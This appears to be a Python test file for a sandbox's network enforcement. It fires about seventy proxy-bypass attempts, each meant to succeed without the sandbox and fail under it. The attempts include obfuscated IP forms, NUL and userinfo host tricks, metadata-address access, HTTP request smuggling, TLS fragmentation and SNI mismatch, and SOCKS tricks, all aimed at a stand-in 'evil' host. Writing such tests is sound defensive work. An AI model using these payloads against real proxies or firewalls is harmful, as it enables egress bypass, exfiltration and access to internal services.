"""Attempts to bypass network grants by name. Each reaches its target through a naive proxy or without one."""

import sys
from collections.abc import Iterator

import pytest
from fleet import Fleet

PRELUDE = r"""
import socket, ssl, sys
EVIL = "93.184.216.66"
def read(sock):
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
            if b"VICTIM" in data:
                break
    except OSError:
        pass
    return data
def proxy():
    sock = socket.create_connection(("127.0.0.1", 61080), 20)
    sock.settimeout(20)
    return sock
def take(sock, count):
    data = b""
    while len(data) < count and (more := sock.recv(count - len(data))):
        data += more
    return data
def take_head(sock):
    data = b""
    while not data.endswith(b"\r\n\r\n") and (more := sock.recv(1)):
        data += more
    return data
def say(data):
    sock = proxy()
    sock.sendall(data)
    return read(sock)
def tunnel(target, more=b""):
    sock = proxy()
    sock.sendall(b"CONNECT " + target + b" HTTP/1.1\r\n" + more + b"\r\n")
    if b" 200 " not in take_head(sock):
        raise OSError("refused")
    return sock
def through(target, data, more=b""):
    sock = tunnel(target, more)
    sock.sendall(data)
    return read(sock)
def socks(kind, address, port):
    sock = proxy()
    sock.sendall(b"\x05\x01\x00")
    take(sock, 2)
    sock.sendall(b"\x05\x01\x00" + bytes([kind]) + address + port.to_bytes(2, "big"))
    if take(sock, 10)[1:2] != b"\x00":
        raise OSError("refused")
    return sock
def name(text):
    return bytes([len(text)]) + text
def asking(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
GET = asking("evil.example")
def over_tls(sock, server, change=lambda hello: hello):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname=server)
    raw = b""
    def turn(step):
        while True:
            try:
                done = step()
                sock.sendall(outgoing.read())
                return done
            except ssl.SSLWantReadError:
                nonlocal change, raw
                sock.sendall(change(outgoing.read()))
                change = lambda rest: rest
                data = sock.recv(65536)
                raw += data
                if b"VICTIM" in raw:
                    return raw
                if not data:
                    raise OSError("hung up")
                incoming.write(data)
    begun = turn(client.do_handshake)
    if begun:
        return begun
    turn(lambda: client.write(GET))
    said = b""
    while b"VICTIM" not in said and (more := turn(lambda: client.read(65536))):
        said += more
    return said
def fragmented(hello, size=9):
    parts = [hello[5:][at:at + size] for at in range(0, len(hello) - 5, size)]
    return b"".join(hello[:3] + len(part).to_bytes(2, "big") + part for part in parts)
def encrypted(hello):
    more = b"\xfe\x0d\x00\x08" + b"\0" * 8
    message = bytearray(hello[5:])
    at = 4 + 2 + 32
    at += 1 + message[at]
    at += 2 + int.from_bytes(message[at:at + 2], "big")
    at += 1 + message[at]
    message[at:at + 2] = (int.from_bytes(message[at:at + 2], "big") + len(more)).to_bytes(2, "big")
    message += more
    message[1:4] = (len(message) - 4).to_bytes(3, "big")
    return hello[:3] + len(message).to_bytes(2, "big") + bytes(message)
def direct(address, port, data=b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"):
    sock = socket.create_connection((address, port), 20)
    sock.settimeout(20)
    sock.sendall(data)
    return read(sock)
def datagram():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(20)
    sock.sendto(b"?", (EVIL, 53))
    return sock.recv(100)
def over_socks(kind, address, port=80):
    sock = socks(kind, address, port)
    sock.sendall(GET)
    return read(sock)
def say_twice(one, other):
    sock = proxy()
    sock.sendall(one)
    if take(sock, 8)[1:2] != b"\x5a":
        raise OSError("refused")
    sock.sendall(other)
    return read(sock)
"""
ENDING = """
try:
    print((ATTEMPT or b"").decode("latin-1")[-200:])
except OSError as error:
    print("held:", error)
"""

ATTEMPTS = {
    # Around the proxy.
    "straight to an address": "direct(EVIL, 80)",
    "straight to IPv6": "direct('64:ff9b::a09:909', 80)",
    "a datagram": "datagram()",
    "the machine's own loopback": "direct('127.0.0.1', 80)",
    "the machine's own address": "direct('93.184.216.1', 80)",
    "metadata without the proxy": "direct('169.254.169.254', 80)",
    # CONNECT, and how the host is written.
    "another host": "through(b'evil.example:80', GET)",
    "another host over TLS": "over_tls(tunnel(b'evil.example:443'), 'evil.example')",
    "another port of a granted host": "through(b'evil.example:22', b'#')",
    "the domain above a wildcard": "through(b'example.org:80', GET)",
    "a name that only ends alike": "through(b'xexample.org:80', GET)",
    "a granted name in front": "through(b'index.example.evil.example:80', GET)",
    "a user in front": "through(b'index.example:80@evil.example:80', GET)",
    "a NUL before a granted end": r"through(b'evil.example\0.example.org:80', GET)",
    "an encoded NUL": "through(b'evil.example%00.example.org:80', GET)",
    "an encoded dot": "through(b'evil%2eexample:80', GET)",
    "capitals and a dot at the end": "through(b'EVIL.example.:80', GET)",
    "a tab in front": r"through(b'\tevil.example:80', GET)",
    "its address": "through(b'93.184.216.66:80', GET)",
    "its address as one number": "through(b'1572395074:80', GET)",
    "its address in hexadecimal": "through(b'0x5db8d842:80', GET)",
    "its address in octal": "through(b'0135.0270.0330.0102:80', GET)",
    "its address in two parts": "through(b'93.12113986:80', GET)",
    "its address in IPv6 form": "through(b'[::ffff:93.184.216.66]:80', GET)",
    # Granted names that resolve to forbidden addresses.
    "a name for loopback": "through(b'loop.example.org:80', asking('loop.example.org'))",
    "a name for loopback in IPv6": "through(b'loop6.example.org:80', asking('loop6.example.org'))",
    "a name for a private address": "through(b'private.example.org:80', asking('private.example.org'))",
    "a name for metadata": "through(b'meta.example.org:80', asking('meta.example.org'))",
    "a name for the machine itself": "through(b'self.example.org:80', asking('self.example.org'))",
    "a name for a private address in IPv6 form": "through(b'mapped.example.org:80', asking('mapped.example.org'))",
    "a name for NAT64": "through(b'nat64.example.org:80', asking('nat64.example.org'))",
    "a name for 6to4": "through(b'tunnel.example.org:80', asking('tunnel.example.org'))",
    # Plain HTTP.
    "a whole address": r"say(b'GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n')",
    "another Host than the address": r"say(b'GET http://index.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n')",
    "two Hosts": r"say(b'GET http://index.example/ HTTP/1.1\r\nHost: evil.example\r\nHost: index.example\r\nConnection: close\r\n\r\n')",
    "an address with a user": r"say(b'GET http://index.example@evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n')",
    "an address with a backslash": r"say(b'GET http://evil.example\\@index.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n')",
    "another Host in a tunnel": "through(b'index.example:80', GET)",
    "another Host in a tunnel of another port": "through(b'index.example:5432', GET)",
    "an empty line before another Host": r"through(b'index.example:5432', b'\r\n' + GET)",
    "a blank before another Host's request": r"through(b'index.example:5432', b' ' + GET)",
    "a bare line feed before another Host": r"through(b'index.example:5432', b'\n' + GET)",
    "another Host by a method of its own": r"through(b'index.example:5432', GET.replace(b'GET', b'REPORT'))",
    "another Host by a tab for a blank": r"through(b'index.example:5432', GET.replace(b' ', b'\t', 2))",
    "another Host without a version": r"through(b'index.example:5432', GET.replace(b' HTTP/1.1', b''))",
    "another Host in lines without a carriage return": r"through(b'index.example:80', GET.replace(b'\r', b''))",
    "another Host on a folded line": r"through(b'index.example:80', GET.replace(b'Host: ', b'X: y\r\n Z\r\nHost: '))",
    "a whole address in a tunnel": r"through(b'index.example:80', b'GET http://evil.example/victim HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n')",
    "HTTP/2 without TLS": r"through(b'index.example:80', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')",
    "a second request behind the first": r"through(b'index.example:80', b'GET / HTTP/1.1\r\nHost: index.example\r\n\r\n' + GET)",
    "a second request behind a whole address": r"say(b'GET http://index.example/ HTTP/1.1\r\nHost: index.example\r\n\r\n' + GET)",
    "a second request in a body of two lengths": r"say(b'POST http://index.example/ HTTP/1.1\r\nHost: index.example\r\nContent-Length: 91\r\nContent-Length: 0\r\n\r\n' + asking('index.example', '/victim'))",
    "a second request in a body with two framings": r"say(b'POST http://index.example/ HTTP/1.1\r\nHost: index.example\r\nContent-Length: 90\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + asking('index.example', '/victim'))",
    "a second request behind a blank before the colon": r"say(b'POST http://index.example/ HTTP/1.1\r\nHost: index.example\r\nContent-Length : 90\r\n\r\n' + asking('index.example', '/victim'))",
    # TLS.
    "another server inside": "over_tls(tunnel(b'index.example:443'), 'evil.example')",
    "no server by name": "over_tls(tunnel(b'index.example:443'), None)",
    "another server in small pieces": "over_tls(tunnel(b'index.example:443'), 'evil.example', fragmented)",
    "another server on a port that is not for TLS": "over_tls(tunnel(b'index.example:5432'), 'evil.example')",
    "an encrypted hello": "over_tls(tunnel(b'index.example:443'), 'index.example', encrypted)",
    "no TLS on a port for TLS": "through(b'index.example:443', GET)",
    # SOCKS.
    "another host by SOCKS": "over_socks(3, name(b'evil.example'))",
    "a NUL by SOCKS": r"over_socks(3, name(b'evil.example\0.example.org'))",
    "an address by SOCKS": "over_socks(1, socket.inet_aton(EVIL))",
    "an address in IPv6 form by SOCKS": "over_socks(4, socket.inet_pton(socket.AF_INET6, '::ffff:' + EVIL))",
    "a number by SOCKS": "over_socks(3, name(b'1572395074'))",
    "another server inside by SOCKS": "over_tls(socks(3, name(b'index.example'), 443), 'evil.example')",
    "another Host by SOCKS": "over_socks(3, name(b'index.example'))",
    "SOCKS4": r"say_twice(b'\x04\x01\x00\x50\x00\x00\x00\x01x\0evil.example\0', GET)",
}


def program(attempt: str) -> list[str]:
    return [sys.executable, "-c", PRELUDE + ENDING.replace("ATTEMPT", attempt)]


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    folder = tmp_path_factory.mktemp("fleet")
    folder.chmod(0o755)
    made = Fleet(folder)
    yield made
    made.close()


def test_there_are_at_least_forty_bypasses() -> None:
    assert len(ATTEMPTS) >= 40


@pytest.mark.parametrize("name", ATTEMPTS)
def test_bypass_is_stopped(name: str, fleet: Fleet) -> None:
    words = program(ATTEMPTS[name])
    canary = fleet.bare(*words)
    assert "VICTIM" in canary["stdout"], canary
    held = fleet.run(*words)
    assert "VICTIM" not in held["stdout"], held
    assert held["enforcement"] == "full"
    assert "Traceback" not in held["stderr"], held["stderr"]
    # The result lists the refused connections.
    if not ATTEMPTS[name].startswith(("direct(", "datagram(")):
        refused = [c for c in held["connections"] if c["outcome"] == "refused"]
        told = [violation for violation in held["violations"] if violation["kind"] == "network"]
        one_request_alone = name in ("a second request behind the first", "a second request behind a whole address")
        assert (bool(refused) and bool(told)) or one_request_alone, held
